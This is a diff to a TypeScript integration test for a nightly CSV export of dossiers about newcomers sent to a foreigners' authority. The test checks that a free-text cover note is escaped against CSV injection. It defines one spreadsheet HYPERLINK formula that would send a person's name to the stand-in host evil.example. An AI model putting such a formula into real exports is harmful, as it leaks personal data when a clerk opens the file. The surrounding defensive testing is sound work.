@@ -11,6 +11,7 @@ import { randomUUID } from 'node:crypto';
 import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import type { INestApplicationContext } from '@nestjs/common';
 import { queueBackendOf } from '@kim/config';
 import { HandoffFile, handoffExportLineSchema } from '@kim/contracts';
@@ -22,6 +23,8 @@ import { expectEventually } from '@kim/test-support/eventually';
 import { OPEN_CASE, RECORD_CONSENT, consentFor, newcomer } from '@kim/test-support/fixtures';
 
 const DOSSIER_TYPE = 'de.kim-hub.achievement-dossier.submitted.v1';
+/** A formula that would send the neighbouring cells (the person's name) to another site when the file is opened. */
+const FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&J2&K2;"Nachweise ansehen")';
 
 describe("a dossier to the foreigners' authority over the nightly file", () => {
   let hub: TestHub;
@@ -110,8 +113,9 @@ describe("a dossier to the foreigners' authority over the nightly file", () => {
     // Consented: the dossier of both achievements goes into the night's file.
     const consented = await caseWithAchievements('Consented');
     await hub.gql(cm(), RECORD_CONSENT, { input: dossierConsent(consented.caseId, abh.id) });
+    // The cover note is free text a clerk's spreadsheet opens: written as a formula (red-team probe).
     const sent = await hub.gql(cm(), SEND, {
-      input: { caseId: consented.caseId, agencyId: abh.id, achievementIds: consented.ids },
+      input: { caseId: consented.caseId, agencyId: abh.id, achievementIds: consented.ids, note: FORMULA_NOTE },
     });
     expect(sent.errors).toBeUndefined();
 
@@ -165,6 +169,12 @@ describe("a dossier to the foreigners' authority over the nightly file", () => {
     const csv = (await read(HandoffFile.EVENTS_CSV)).toString();
     for (const name of ['Without', 'JobcenterOnly', 'Expired']) expect(csv).not.toContain(name);
     expect(csv).toContain(consented.reference);
+    // No cell a spreadsheet would run as a formula (CSV injection): the note stays text, marked
+    // by a leading apostrophe as spreadsheets do; events.jsonl keeps it as written.
+    const cells = parseCsv<Record<string, string>>(csv, { columns: true }).flatMap((r) => Object.values(r));
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toContain(`'${FORMULA_NOTE}`);
+    expect(dossiers[0].note).toBe(FORMULA_NOTE);
 
     // The expired one: suppressed at export, the refusal in the ledger and on its timeline.
     const [row] = await hub.db.ds.query(
